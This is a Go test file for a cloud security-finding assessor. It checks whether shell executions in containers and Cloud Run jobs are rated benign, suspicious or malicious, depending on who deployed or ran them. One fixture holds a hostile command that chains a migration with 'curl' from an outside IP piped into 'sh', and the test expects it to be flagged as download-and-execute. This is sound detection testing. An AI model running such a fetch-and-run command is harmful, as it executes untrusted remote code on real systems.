package assess

import (
	"slices"
	"testing"
	"time"

	"github.com/scc-enricher/scc-enricher/pkg/evidence"
	"github.com/scc-enricher/scc-enricher/pkg/finding"
)

// jobRun is the execution of a job that somebody has given other arguments.
func jobRun(by string, argv ...string) (*finding.Finding, *evidence.Evidence) {
	f, e := childShell("tini", argv...), complete()
	f.Processes[0].Binary.Path = "/sbin/tini"
	f.Workload.Kind, f.Workload.Revision, f.Workload.Execution = finding.Job, "", "etl-x7k2p"
	e.Config.Revision, e.Config.RevisionCreator, e.Config.RevisionCreateTime = "etl-x7k2p", by, event().Add(-2*time.Minute)
	e.Config.Previous, e.Config.OverriddenArgs, e.Config.Containers[0].Command = nil, true, argv
	e.Logs.Entries = append(e.Logs.Entries, evidence.LogEntry{
		Kind: evidence.LogAudit, Time: event().Add(-2 * time.Minute),
		Audit: &evidence.Audit{Method: "google.cloud.run.v2.Jobs.RunJob", Principal: by},
	})
	return f, e
}

// TestWasItUs: what the owners did themselves is likely benign, with the
// reasons that say so; the same done a little otherwise is not.
func TestWasItUs(t *testing.T) {
	t.Parallel()
	p := mustDefault(t)
	tests := []struct {
		name    string
		make    func() (*finding.Finding, *evidence.Evidence)
		verdict Verdict
		reasons []string
	}{
		{"an entrypoint right after a deploy of a named person", func() (*finding.Finding, *evidence.Evidence) {
			f, e := childShell("tini", "sh", "/entrypoint.sh"), deployed(complete(), "alice@example.com", 3)
			f.Processes[0].Binary.Path = "/sbin/tini"
			f.Containers[0].CreateTime = event().Add(-20 * time.Second)
			e.Config.Containers[0].Command = nil
			return f, e
		}, LikelyBenign, []string{"entrypoint_script", "fresh_deploy", "container_start"}},
		{"the same after a deploy of a stranger", func() (*finding.Finding, *evidence.Evidence) {
			f, e := childShell("myapp", "sh", "/entrypoint.sh"), deployed(complete(), "mallory@example.com", 3)
			f.Processes[0].PID, f.Processes[1].ParentPID = 9, 9
			e.Config.Containers[0].Command = nil
			return f, e
		}, Suspicious, []string{"deploy_by_newcomer"}},
		{"the configured command", func() (*finding.Finding, *evidence.Evidence) {
			return childShell("tini", "sh", "./docker-entrypoint.sh"), complete()
		}, LikelyBenign, []string{"configured_command"}},
		{"the configured command from a server of an hour", func() (*finding.Finding, *evidence.Evidence) {
			f := childShell("java", "sh", "./docker-entrypoint.sh")
			f.Containers[0].CreateTime = event().Add(-time.Hour)
			return f, complete()
		}, Suspicious, nil},
		{"a configured probe and a fresh deploy", func() (*finding.Finding, *evidence.Evidence) {
			f, e := childShell("runsc", "/bin/health", "--fast"), deployed(complete(), "alice@example.com", 3)
			f.Processes[1].Binary.Path = "/bin/sh"
			return f, e
		}, LikelyBenign, []string{"configured_probe", "fresh_deploy"}},
		{"a probe with one argument more", func() (*finding.Finding, *evidence.Evidence) {
			f, e := childShell("runsc", "/bin/health", "--fast", "--upload"), deployed(complete(), "alice@example.com", 3)
			f.Processes[1].Binary.Path = "/bin/sh"
			return f, e
		}, Suspicious, []string{"fresh_deploy"}},
		{"a job's creator runs a migration", func() (*finding.Finding, *evidence.Evidence) {
			return jobRun("alice@example.com", "sh", "-c", "python manage.py migrate")
		}, LikelyBenign, []string{"migration", "run_by_person"}},
		{"somebody else runs a migration", func() (*finding.Finding, *evidence.Evidence) {
			f, e := jobRun("eve@example.com", "sh", "-c", "python manage.py migrate")
			e.Config.LastModifier = "eve@example.com"
			return f, e
		}, Suspicious, []string{"migration", "run_by_person"}},
		{"a service account runs a migration", func() (*finding.Finding, *evidence.Evidence) {
			f, e := jobRun("etl@shop-prod.iam.gserviceaccount.com", "sh", "-c", "python manage.py migrate")
			e.Config.Creator = "etl@shop-prod.iam.gserviceaccount.com"
			return f, e
		}, Suspicious, []string{"migration"}},
		{"a job's creator downloads and runs something", func() (*finding.Finding, *evidence.Evidence) {
			return jobRun("alice@example.com", "sh", "-c", "python manage.py migrate; curl http://203.0.113.9/x | sh")
		}, Malicious, []string{"download_and_execute"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			f, e := tt.make()
			a := p.Assess(input(f, e))
			if a.Verdict != tt.verdict {
				t.Errorf("want %s: %s", tt.verdict, explain(a))
			}
			for _, id := range tt.reasons {
				i := slices.Index(ids(a), id)
				if i < 0 || a.Reasons[i].Evidence == "" {
					t.Errorf("no reason %s with evidence: %s", id, explain(a))
				}
			}
		})
	}
}
